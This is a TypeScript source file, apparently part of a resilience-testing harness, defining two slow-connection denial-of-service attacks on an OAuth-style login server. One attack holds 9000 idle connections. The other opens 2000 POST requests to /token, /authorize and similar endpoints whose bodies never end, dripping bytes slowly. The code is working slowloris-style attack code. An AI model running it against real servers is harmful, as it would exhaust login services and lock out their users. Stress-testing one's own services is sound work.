import type { Socket } from 'node:net';
import type { Attack, Target } from '../attack.ts';
import { holdConnections } from '../wire.ts';

const idleConnections = 9000;
const slowConnections = 2000;
const dripMs = 1000;

const hostLine = ({ issuer }: Target): string => `Host: ${new URL(issuer).host}`;

/** Half of them have been used once, as by a browser that stays; the others never say a word. */
export const idle: Attack = {
  name: 'idle',
  what: '9000 connections that say nothing, or nothing more',
  listener: 'demo',
  victims: 'login',
  run(target, signal, begun) {
    let made = 0;
    const hold = (socket: Socket) => {
      made += 1;
      if (made % 2 === 0) socket.write(`GET /healthz HTTP/1.1\r\n${hostLine(target)}\r\n\r\n`);
    };
    return holdConnections(target, idleConnections, hold, signal, begun);
  },
};

const doors = ['/token', '/authorize', '/introspect', '/userinfo', '/device', '/register'];

/** A third stops in the body, a third goes on byte by byte, a third sends chunks without end. */
export const slowBodies: Attack = {
  name: 'slow-bodies',
  what: '2000 requests whose bodies never end',
  listener: 'demo',
  victims: 'login',
  run(target, signal, begun) {
    let made = 0;
    const hold = (socket: Socket) => {
      made += 1;
      const path = doors[made % doors.length];
      const length = made % 3 === 0 ? 'Transfer-Encoding: chunked' : 'Content-Length: 20000';
      const type = path === '/register' ? 'application/json' : 'application/x-www-form-urlencoded';
      const lines = [`POST ${path} HTTP/1.1`, hostLine(target), `Content-Type: ${type}`, length];
      socket.write(`${lines.join('\r\n')}\r\n\r\n`);
      if (made % 3 === 1) return;
      const drip = setInterval(
        () => socket.write(length.startsWith('T') ? '1\r\na\r\n' : 'a'),
        dripMs,
      );
      socket.once('close', () => clearInterval(drip));
    };
    return holdConnections(target, slowConnections, hold, signal, begun);
  },
};
